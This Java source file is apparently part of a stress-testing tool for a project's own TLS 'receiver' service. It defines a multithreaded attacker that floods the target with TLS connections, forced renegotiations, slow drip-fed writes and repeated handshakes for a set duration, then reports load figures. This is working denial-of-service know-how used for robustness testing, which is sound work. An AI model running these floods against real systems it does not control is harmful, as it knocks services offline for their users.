package io.vitalwatch.receiver.attack;

import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.nio.ByteBuffer;
import java.security.GeneralSecurityException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;

import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLEngine;
import javax.net.ssl.SSLSocket;

/** Attacks over TLS, with a thread for each connection. */
final class TlsAttacker {
    private final Attack attack;
    private final URI uri;
    private final long end;
    private final AtomicLong opened = new AtomicLong();
    private final AtomicLong bytes = new AtomicLong();
    private final AtomicLong answers = new AtomicLong();

    private TlsAttacker(Attack attack, URI uri, long end) {
        this.attack = attack;
        this.uri = uri;
        this.end = end;
    }

    static void run(Attack attack, URI uri, int seconds) throws InterruptedException {
        TlsAttacker attacker = new TlsAttacker(attack, uri, System.nanoTime() + seconds * 1_000_000_000L);
        List<Thread> threads = new ArrayList<>();
        for (int i = 0; i < attack.atOnce(); i++) {
            Thread thread = new Thread(null, attacker::attack, "attacker-" + i, 256 << 10);
            thread.setDaemon(true);
            thread.start();
            threads.add(thread);
        }
        for (Thread each : threads) {
            each.join(Math.max(1, (attacker.end - System.nanoTime()) / 1_000_000));
        }
        System.out.println(Attacker.load(attack, attacker.opened.get(), attacker.bytes.get(), attacker.answers.get(), seconds));
    }

    /** The first message of a handshake, as a client sends it. */
    static byte[] firstMessage() {
        try {
            SSLEngine engine = SSLContext.getDefault().createSSLEngine();
            engine.setUseClientMode(true);
            ByteBuffer message = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
            engine.wrap(ByteBuffer.allocate(0), message);
            return Arrays.copyOf(message.array(), message.position());
        } catch (GeneralSecurityException | IOException e) {
            throw new IllegalStateException("every Java has TLS", e);
        }
    }

    private void attack() {
        while (System.nanoTime() < end) {
            try (Socket socket = Connections.open(uri, attack.manner() == Attack.Manner.RENEGOTIATES)) {
                opened.incrementAndGet();
                socket.setSoTimeout(attack.then().length > 0 ? (int) attack.everyMillis() : 5000);
                send(socket, attack.first());
                if (attack.manner() == Attack.Manner.RENEGOTIATES) {
                    renegotiate((SSLSocket) socket);
                } else if (attack.manner() != Attack.Manner.LEAVES) {
                    hold(socket);
                }
            } catch (IOException e) {
                // The receiver closed the connection or did not take it; the next one follows.
            }
        }
    }

    private void renegotiate(SSLSocket socket) throws IOException {
        while (System.nanoTime() < end) {
            socket.startHandshake();
            if (socket.getInputStream().read() < 0) {
                return;
            }
            answers.incrementAndGet();
        }
    }

    private void hold(Socket socket) throws IOException {
        InputStream in = socket.getInputStream();
        byte[] answer = new byte[8192];
        while (System.nanoTime() < end) {
            try {
                if (in.read(answer) < 0) {
                    return;
                }
                answers.incrementAndGet();
                if (attack.manner() == Attack.Manner.REPEATS) {
                    send(socket, attack.first());
                }
            } catch (SocketTimeoutException e) {
                send(socket, attack.then());
            }
        }
    }

    private void send(Socket socket, byte[] part) throws IOException {
        socket.getOutputStream().write(part);
        bytes.addAndGet(part.length);
    }
}
